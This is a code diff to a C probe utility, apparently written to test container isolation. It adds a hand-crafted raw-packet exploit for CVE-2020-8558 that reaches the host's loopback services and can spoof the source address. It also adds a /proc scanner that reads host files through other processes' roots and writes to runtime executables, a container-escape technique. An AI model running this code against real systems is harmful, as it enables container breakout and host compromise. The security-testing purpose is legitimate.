@@ -9,17 +9,31 @@
  *   probe cwd        the working directory
  *   probe hog MIB    allocate and touch MIB MiB, one at a time, printing
  *                    how many it holds (for memory limits)
+ *   probe localnet GATEWAY PORT [FROM]
+ *                    a UDP datagram for 127.0.0.1:PORT in a frame made by
+ *                    hand, to GATEWAY's MAC address (CVE-2020-8558); prints
+ *                    "answer: TEXT" or "no answer". With FROM: one from
+ *                    FROM (127.0.0.2, say) for GATEWAY:PORT instead
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
 #include <linux/sched.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
+#include <poll.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <time.h>
@@ -39,6 +53,11 @@ static const char *ename(int e)
     case EAFNOSUPPORT: return "EAFNOSUPPORT";
     case ENOMEM: return "ENOMEM";
     case EOPNOTSUPP: return "EOPNOTSUPP";
+    case ENXIO: return "ENXIO";
+    case ENODEV: return "ENODEV";
+    case EROFS: return "EROFS";
+    case ETXTBSY: return "ETXTBSY";
+    case ELOOP: return "ELOOP";
     default: return "OTHER";
     }
 }
@@ -116,6 +135,92 @@ static int syscalls(void)
     return 0;
 }
 
+static int open_cmd(const char *path, const char *mode)
+{
+    int flags = !strcmp(mode, "r") ? O_RDONLY : !strcmp(mode, "w") ? O_WRONLY : O_RDWR;
+    errno = 0;
+    int fd = open(path, flags | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
+    printf("open %s %s\n", path, fd < 0 ? ename(errno) : "OK");
+    return 0;
+}
+
+#define SNOOP_MAX 4096
+
+static int snoop(int seconds, const char *hostfile)
+{
+    static int exefd[SNOOP_MAX], exepid[SNOOP_MAX];
+    static char seen[1 << 16];
+    int nexe = 0, n = 0;
+    char self[64], mine[256] = "";
+    snprintf(self, sizeof(self), "%d", (int)getpid());
+    ssize_t k = readlink("/proc/self/exe", mine, sizeof(mine) - 1);
+    mine[k > 0 ? k : 0] = '\0';
+    struct timespec t0, t;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    do {
+        DIR *d = opendir("/proc");
+        if (!d)
+            return perror("/proc"), 1;
+        struct dirent *de;
+        while ((de = readdir(d))) {
+            int pid = atoi(de->d_name);
+            if (pid <= 1 || pid >= (int)sizeof(seen) || seen[pid] || !strcmp(de->d_name, self))
+                continue;
+            char p[512], link[256];
+            snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+            ssize_t m = readlink(p, link, sizeof(link) - 1);
+            if (m <= 0)
+                continue;
+            link[m] = '\0';
+            seen[pid] = 1;
+            n++;
+            if (!strcmp(link, mine) || strstr(link, "busybox"))
+                continue;
+            snprintf(p, sizeof(p), "/proc/%d/root%s", pid, hostfile);
+            int fd = open(p, O_RDONLY | O_CLOEXEC);
+            if (fd >= 0) {
+                char buf[128];
+                ssize_t r = read(fd, buf, sizeof(buf) - 1);
+                buf[r > 0 ? r : 0] = '\0';
+                buf[strcspn(buf, "\n")] = '\0';
+                printf("root-escape %d: %s\n", pid, buf);
+                close(fd);
+            }
+            snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+            fd = open(p, O_PATH | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            /* still the runtime's, not what it exec'd meanwhile (the
+             * container's own files are not what this attack is after) */
+            char again[256];
+            snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+            m = readlink(p, again, sizeof(again) - 1);
+            again[m > 0 ? m : 0] = '\0';
+            if (strcmp(again, link) || nexe == SNOOP_MAX) {
+                close(fd);
+                continue;
+            }
+            exefd[nexe] = fd;
+            exepid[nexe++] = pid;
+        }
+        closedir(d);
+        clock_gettime(CLOCK_MONOTONIC, &t);
+    } while (t.tv_sec - t0.tv_sec < seconds);
+    for (int i = 0; i < nexe; i++) {
+        char p[64], link[256];
+        snprintf(p, sizeof(p), "/proc/self/fd/%d", exefd[i]);
+        ssize_t m = readlink(p, link, sizeof(link) - 1);
+        link[m > 0 ? m : 0] = '\0';
+        int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (fd >= 0 && write(fd, "X", 1) == 1)
+            printf("exe-written %d: %s\n", exepid[i], link);
+        if (fd >= 0)
+            close(fd);
+    }
+    printf("snooped %d processes, kept %d exe\n", n, nexe);
+    return 0;
+}
+
 static int fds(void)
 {
     DIR *d = opendir("/proc/self/fd");
@@ -126,6 +231,136 @@ static int fds(void)
         if (de->d_name[0] != '.' && atoi(de->d_name) != dirfd(d))
             printf("%s\n", de->d_name);
     closedir(d);
+    return 0;
+}
+
+/* ---------- localnet: a container's packets for the droplet's 127.0.0.1 ---------- */
+
+/* The gateway's MAC address: a datagram to it makes the kernel ask
+ * (ARP), then the answer is in /proc/net/arp. */
+static int gateway_mac(struct in_addr gw, int port, unsigned char mac[6])
+{
+    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr = gw};
+    if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof(to)) < 0)
+        return perror("gateway"), -1;
+    if (send(s, "?", 1, 0) < 0)
+        perror("gateway");
+    close(s);
+    char want[32];
+    snprintf(want, sizeof(want), "%s", inet_ntoa(gw));
+    for (int i = 0; i < 30; i++) {
+        FILE *f = fopen("/proc/net/arp", "r");
+        if (!f)
+            return perror("/proc/net/arp"), -1;
+        char line[256], ip[32];
+        unsigned flags, m[6];
+        while (fgets(line, sizeof(line), f))
+            if (sscanf(line, "%31s %*s %x %x:%x:%x:%x:%x:%x", ip, &flags, &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) ==
+                    8 &&
+                !strcmp(ip, want) && (flags & 2)) {
+                for (int k = 0; k < 6; k++)
+                    mac[k] = (unsigned char)m[k];
+                fclose(f);
+                return 0;
+            }
+        fclose(f);
+        usleep(100 * 1000);
+    }
+    fprintf(stderr, "no MAC address for %s\n", want);
+    return -1;
+}
+
+static uint16_t ip_checksum(const void *p, size_t len)
+{
+    const uint16_t *w = p;
+    uint32_t sum = 0;
+    for (; len > 1; len -= 2)
+        sum += *w++;
+    while (sum >> 16)
+        sum = (sum & 0xffff) + (sum >> 16);
+    return (uint16_t)~sum;
+}
+
+/* The reply to sport from 127.0.0.1:port, if pkt (an IPv4 packet) is it. */
+static const char *reply_in(const unsigned char *pkt, ssize_t n, int port, uint16_t sport, size_t *len)
+{
+    const struct iphdr *ip = (const struct iphdr *)pkt;
+    if (n < (ssize_t)sizeof(*ip) || ip->version != 4 || ip->protocol != IPPROTO_UDP ||
+        ip->saddr != htonl(INADDR_LOOPBACK))
+        return NULL;
+    size_t hl = (size_t)ip->ihl * 4;
+    const struct udphdr *u = (const struct udphdr *)(pkt + hl);
+    if ((size_t)n < hl + sizeof(*u) || u->source != htons((uint16_t)port) || u->dest != htons(sport))
+        return NULL;
+    *len = (size_t)n - hl - sizeof(*u);
+    return (const char *)(u + 1);
+}
+
+static int localnet(const char *gateway, int port, const char *from)
+{
+    struct in_addr gw, src;
+    if (!inet_aton(gateway, &gw) || port <= 0 || port > 65535 || (from && !inet_aton(from, &src)))
+        return fprintf(stderr, "probe localnet: GATEWAY PORT [FROM]\n"), 2;
+    unsigned ifindex = if_nametoindex("eth0");
+    if (!ifindex)
+        return perror("eth0"), 1;
+    /* eth0's address: the source, so that a reply comes back here */
+    struct ifreq ifr = {0};
+    snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "eth0");
+    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    if (s < 0 || ioctl(s, SIOCGIFADDR, &ifr) < 0)
+        return perror("eth0's address"), 1;
+    close(s);
+    unsigned char mac[6];
+    if (gateway_mac(gw, port, mac) < 0)
+        return 1;
+    int ps = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
+    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)ifindex};
+    if (ps < 0 || bind(ps, (struct sockaddr *)&ll, sizeof(ll)) < 0)
+        return perror("packet socket"), 1;
+    static const char msg[] = "rt-probe localnet";
+    uint16_t sport = (uint16_t)(40000 + getpid() % 20000);
+    struct {
+        struct iphdr ip;
+        struct udphdr udp;
+        char data[sizeof(msg) - 1];
+    } __attribute__((packed)) pkt = {
+        .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .tot_len = htons(sizeof(pkt)),
+               .frag_off = htons(IP_DF),
+               .saddr = from ? src.s_addr : ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr,
+               .daddr = from ? gw.s_addr : htonl(INADDR_LOOPBACK)},
+        .udp = {.source = htons(sport), .dest = htons((uint16_t)port), .len = htons(sizeof(pkt) - sizeof(pkt.ip))},
+    };
+    memcpy(pkt.data, msg, sizeof(pkt.data)); /* UDP checksum 0: none, allowed over IPv4 */
+    pkt.ip.check = ip_checksum(&pkt.ip, sizeof(pkt.ip));
+    ll.sll_halen = 6;
+    memcpy(ll.sll_addr, mac, 6);
+    for (int tries = 0; tries < 3; tries++) {
+        if (sendto(ps, &pkt, sizeof(pkt), 0, (struct sockaddr *)&ll, sizeof(ll)) < 0)
+            return perror("sending"), 1;
+        struct timespec end, now;
+        clock_gettime(CLOCK_MONOTONIC, &end);
+        end.tv_nsec += 700 * 1000000L;
+        end.tv_sec += end.tv_nsec / 1000000000L;
+        end.tv_nsec %= 1000000000L;
+        for (;;) {
+            clock_gettime(CLOCK_MONOTONIC, &now);
+            long ms = (end.tv_sec - now.tv_sec) * 1000 + (end.tv_nsec - now.tv_nsec) / 1000000;
+            struct pollfd pfd = {.fd = ps, .events = POLLIN};
+            if (ms <= 0 || poll(&pfd, 1, (int)ms) <= 0)
+                break;
+            unsigned char buf[2048];
+            ssize_t n = recv(ps, buf, sizeof(buf), 0);
+            size_t len;
+            const char *text = n > 0 ? reply_in(buf, n, port, sport, &len) : NULL;
+            if (text) {
+                printf("answer: %.*s\n", (int)len, text);
+                return 0;
+            }
+        }
+    }
+    printf("no answer\n");
     return 0;
 }
 
@@ -160,6 +395,13 @@ int main(int argc, char **argv)
         }
         return 0;
     }
-    fprintf(stderr, "usage: probe syscalls|fds|cwd|mono|hog MIB\n");
+    if ((argc == 4 || argc == 5) && !strcmp(argv[1], "localnet"))
+        return localnet(argv[2], atoi(argv[3]), argc == 5 ? argv[4] : NULL);
+    if (argc == 4 && !strcmp(argv[1], "open"))
+        return open_cmd(argv[2], argv[3]);
+    if (argc == 4 && !strcmp(argv[1], "snoop"))
+        return snoop(atoi(argv[2]), argv[3]);
+    fprintf(stderr, "usage: probe syscalls|fds|cwd|mono|hog MIB|localnet GATEWAY PORT [FROM]|open PATH r|w|rw|"
+                    "snoop SECONDS HOSTFILE\n");
     return 2;
 }
